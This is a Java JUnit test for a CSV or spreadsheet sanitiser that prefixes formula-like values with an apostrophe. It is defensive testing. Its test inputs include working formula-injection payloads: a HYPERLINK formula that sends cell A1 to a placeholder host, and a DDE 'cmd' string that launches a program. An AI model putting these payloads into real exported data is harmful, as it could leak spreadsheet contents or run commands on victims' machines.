package org.niffler.csv;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetTextTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://x/?\"&A1)",
                "+1+1",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1)",
                "\t=1+1",
                "\r=1",
                " =1+1",
                "\uFF1D1+1"
            })
    void putsAnApostropheBeforeWhatASpreadsheetWouldRun(String formula) {
        assertThat(SpreadsheetText.defused(formula)).isEqualTo("'" + formula);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "CT CHEST", "-1.25", "+3", "-0.5e-3", "a=b", "1-2", "GE*"})
    void leavesNumbersAndOtherTextAsTheyAre(String text) {
        assertThat(SpreadsheetText.defused(text)).isEqualTo(text);
    }
}
